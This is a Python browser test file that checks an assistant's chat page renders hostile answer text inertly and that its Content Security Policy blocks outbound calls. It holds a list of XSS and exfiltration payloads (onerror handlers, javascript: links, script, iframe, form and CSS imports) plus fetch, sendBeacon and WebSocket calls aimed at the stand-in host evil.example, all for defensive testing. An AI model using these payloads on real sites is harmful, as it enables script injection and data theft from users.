"""Hostile words on every tab: nothing that somebody wrote loads, sends or runs anything."""

from __future__ import annotations

from typing import Any

import pytest
from browsing import IN_BROWSER, outside, until
from turns import FakeAssistant, answer

from assistant.values import Answer, Citation, Claim, Turn

pytestmark = IN_BROWSER
HOSTILE = (
    '<img src="http://evil.example/1.png" onerror="document.title=\'run\'"> '
    "![a](http://evil.example/2.png) [b](javascript:document.title='run') "
    '<svg onload="document.title=\'run\'"><image href="http://evil.example/3.png"/></svg> '
    '<script src="http://evil.example/4.js"></script> <style>@import url(http://evil.example/5.css);</style> '
    '<iframe src="http://evil.example/6"></iframe> <object data="http://evil.example/7"></object> '
    '<form action="http://evil.example/8"><button>x</button></form> '
    '<a href="http://evil.example/9" ping="http://evil.example/10">c</a> <base href="http://evil.example/">'
    '<link rel="stylesheet" href="http://evil.example/11.css"> <video src="http://evil.example/12"></video> '
    '<div style="background:url(http://evil.example/13)">d</div> $\\href{javascript:alert(1)}{e}$'
)
LEFT = "img, svg[onload], script[src*=evil], iframe, object, video, form[action*=evil], base[href*=evil], a[href*=evil], a[href^=javascript]"


class Hostile(FakeAssistant):
    """Answers with words that try everything."""

    def ask(self, question: str, **named: Any) -> Turn:
        turn = super().ask(question, **named)
        told = turn.reply
        assert isinstance(told, Answer)
        there = answer("art_18__para_2").claims[0].citations[0].passage
        bad = Claim(text=HOSTILE, citations=(Citation(passage=there, quote=HOSTILE),))
        reply = Answer(claims=(bad, *told.claims), notices=told.notices)
        return Turn(
            query=turn.query, findings=turn.findings, reply=reply, status=turn.status, ms=turn.ms
        )


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory):
    from browsing import served

    with served(Hostile(), data_dir=tmp_path_factory.mktemp("data")) as there:
        yield there


def test_a_hostile_question_and_a_hostile_answer_load_and_run_nothing(visit, address) -> None:
    page = visit()
    title = page.title()
    page.fill("#question textarea", HOSTILE)
    page.click("#ask")
    page.wait_for_selector('#conversation a[href^="#c-"]')
    shown = page.inner_text('#conversation [data-testid="bot"]')
    assert "evil.example/1.png" in shown and "<script" in shown
    page.click('#conversation a[href^="#c-0-0"] >> nth=0')
    page.wait_for_selector("#panel .source")
    page.wait_for_timeout(800)
    assert page.locator(LEFT.replace("img,", "#conversation img, #panel img,")).count() == 0
    for tab in range(page.locator('[role="tab"]').count()):
        page.click(f'[role="tab"] >> nth={tab}')
        page.wait_for_timeout(400)
    page.reload()  # what was kept of it is shown again
    page.wait_for_selector("#question textarea")
    page.wait_for_timeout(1500)
    assert outside(page, address) == []
    assert page.title() == title


def test_the_browser_itself_refuses_what_would_slip_through(visit, address) -> None:
    page = visit()
    page.evaluate(
        "html => { const d = document.createElement('div'); d.innerHTML = html; document.body.append(d); }",
        HOSTILE,
    )
    sent = page.evaluate(
        "async () => { const out = []; for (const go of ["
        " () => fetch('http://evil.example/x'), () => navigator.sendBeacon('http://evil.example/y', '1'),"
        " () => new Promise((y, n) => { const s = new WebSocket('ws://evil.example/z'); s.onerror = n; s.onopen = y; }),"
        " ]) { try { await go(); out.push('sent'); } catch { out.push('refused'); } } return out; }"
    )
    assert sent[0] == sent[2] == "refused"

    def refused() -> list[str]:
        return [said for said in page.complaints if "Content Security Policy" in said]

    until(page, lambda: len(refused()) >= 5 and any("1.png" in said for said in refused()))
